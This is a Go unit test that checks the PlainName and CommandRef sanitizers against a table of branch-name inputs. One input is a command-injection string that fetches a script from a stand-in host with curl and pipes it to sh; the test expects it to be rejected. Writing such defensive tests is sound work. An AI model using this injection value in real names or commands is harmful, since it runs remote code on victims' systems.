package sanitize

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestPlainNamesAndCommandRefs(t *testing.T) {
	tests := []struct {
		name           string
		plain, command bool
	}{
		{"main", true, true},
		{"release/1.2", true, true},
		{"feature/x-1_b", true, true},
		{"cmd/prmonitor/main_test.go", true, true},
		{"user@host+tag", true, false},
		{"fix$(curl${IFS}-sL${IFS}evil.example|sh)", false, false},
		{"a b", false, false},
		{"-rf", true, false},
		{".hidden", true, false},
		{"a..b", true, false},
		{"a//b", true, false},
		{"a/.b", true, false},
		{"trailing/", true, false},
		{"x.lock", true, false},
		{"x.", true, false},
		{"fëature", false, false},
		{"back`tick`", false, false},
		{"semi;colon", false, false},
		{"", false, false},
		{strings.Repeat("a", 100), true, true},
		{strings.Repeat("a", 101), false, false},
	}
	for _, tt := range tests {
		assert.Equal(t, tt.plain, PlainName(tt.name), "PlainName(%q)", tt.name)
		assert.Equal(t, tt.command, CommandRef(tt.name), "CommandRef(%q)", tt.name)
	}
}
